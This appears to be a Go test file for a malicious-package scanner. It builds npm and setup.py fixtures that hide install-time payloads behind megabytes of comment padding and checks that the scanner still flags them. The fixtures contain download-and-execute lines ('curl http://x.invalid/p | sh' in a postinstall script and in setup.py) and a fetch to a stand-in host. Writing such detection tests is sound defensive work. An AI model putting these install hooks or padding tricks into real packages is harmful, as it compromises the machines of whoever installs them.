//go:build cgo

package scan_test

import (
	"context"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/moatproject/moat/scan"
	"github.com/moatproject/moat/scan/features"
	"github.com/moatproject/moat/scan/rules"
)

// behaviour is a report's sequence without the tokens that describe the
// file layout rather than behaviour.
func behaviour(r *scan.Report) []string {
	var out []string
	for _, tok := range r.Sequence {
		switch tok {
		case "obfuscation.minified", "string.long":
			continue
		}
		out = append(out, tok)
	}
	return out
}

// A payload behind megabytes of comment padding, in an npm postinstall
// target or a setup.py, gives the same behaviour tokens as without it.
func TestPaddedInstallCode(t *testing.T) {
	s := newRealScanner(t)
	const jsPayload = "const cp = require('child_process');\ncp.execSync('curl http://x.invalid/p | sh');\n"
	const pyPayload = "import os\nfrom setuptools import setup\nos.system('curl http://x.invalid/p | sh')\nsetup(name='wholefile-padded-demo', version='1.0')\n"
	jsPad := "/*\n" + strings.Repeat(" * lorem ipsum dolor sit amet\n", (4<<20)/30) + " */\n"
	pyPad := strings.Repeat("# lorem ipsum dolor sit amet\n", (2<<20)/29) +
		"\"\"\"\n" + strings.Repeat("lorem ipsum dolor sit amet\n", (2<<20)/27) + "\"\"\"\n"
	npm := func(js string) (string, []byte) {
		return "wholefile-padded-demo-1.0.0.tgz", tgz(t, "package/", map[string]string{
			"package.json": `{"name": "wholefile-padded-demo", "version": "1.0.0", "scripts": {"postinstall": "node install.js"}}`,
			"install.js":   js,
		})
	}
	sdist := func(py string) (string, []byte) {
		return "wholefile-padded-demo-1.0.tar.gz", tgz(t, "wholefile-padded-demo-1.0/", map[string]string{
			"PKG-INFO": "Metadata-Version: 2.1\nName: wholefile-padded-demo\nVersion: 1.0\n",
			"setup.py": py,
		})
	}
	for _, c := range []struct {
		name          string
		plain, padded func() (string, []byte)
		want          []string
	}{
		{"npm postinstall",
			func() (string, []byte) { return npm(jsPayload) },
			func() (string, []byte) { return npm(jsPad + jsPayload) },
			[]string{"process.call", "shell.download_exec"}},
		{"setup.py",
			func() (string, []byte) { return sdist(pyPayload) },
			func() (string, []byte) { return sdist(pyPad + pyPayload) },
			[]string{"process.call", "shell.download_exec"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			fn, data := c.plain()
			want := s.Scan(context.Background(), scan.Input{Filename: fn, Data: data})
			fn, data = c.padded()
			start := time.Now()
			got := s.Scan(context.Background(), scan.Input{Filename: fn, Data: data})
			took := time.Since(start)
			if want.Error != "" || got.Error != "" {
				t.Fatalf("errors: %q, %q", want.Error, got.Error)
			}
			if !slices.Equal(behaviour(want), behaviour(got)) {
				t.Errorf("padded sequence %q\nwant %q", got.Sequence, want.Sequence)
			}
			for _, tok := range c.want {
				if !slices.Contains(got.Sequence, tok) {
					t.Errorf("no %s in %q", tok, got.Sequence)
				}
			}
			if slices.Contains(got.Sequence, "file.truncated") {
				t.Errorf("padding counted as unanalysed code: %q", got.Sequence)
			}
			if took > 5*time.Second {
				t.Errorf("padded scan took %s", took)
			}
		})
	}
}

// Install-time code whose parse times out makes the report an error of kind
// "unanalysed" with an install.unanalysed event; other files that time out
// only get parse.error (and the lexical pass).
func TestUnanalysedInstallCode(t *testing.T) {
	ex := features.New(features.Options{ParseTimeout: time.Microsecond})
	t.Cleanup(func() { ex.Close() })
	s := scan.New(ex, rules.New(), scan.Options{})
	code := strings.Repeat("function add(a, b) { return [a, b].map((x) => x * 2 + (a ? b : a)); }\n", 20000)
	payload := "fetch('http://x.invalid/p');\n" // not flagged on its own: the verdict must come from the timeout
	for _, c := range []struct {
		name    string
		scripts string
		want    string
	}{
		{"install target", `{"postinstall": "node lib.js"}`, scan.KindUnanalysed},
		{"library file", `{}`, ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			data := tgz(t, "package/", map[string]string{
				"package.json": `{"name": "wholefile-padded-demo", "version": "1.0.0", "main": "index.js", "scripts": ` + c.scripts + `}`,
				"lib.js":       code + payload,
			})
			r := s.Scan(context.Background(), scan.Input{Filename: "p.tgz", Data: data})
			if r.ErrorKind != c.want {
				t.Fatalf("error kind %q (%s), want %q; %q", r.ErrorKind, r.Error, c.want, r.Sequence)
			}
			if c.want != "" && (r.Verdict != scan.VerdictError || !slices.Contains(r.Sequence, "install.unanalysed")) {
				t.Errorf("verdict %s, sequence %q", r.Verdict, r.Sequence)
			}
			if c.want == "" && slices.Contains(r.Sequence, "install.unanalysed") {
				t.Errorf("sequence %q", r.Sequence)
			}
			// The lexical pass saw the payload either way.
			for _, tok := range []string{"parse.error", "net.call", "url"} {
				if !slices.Contains(r.Sequence, tok) {
					t.Errorf("no %s in %q", tok, r.Sequence)
				}
			}
		})
	}
}
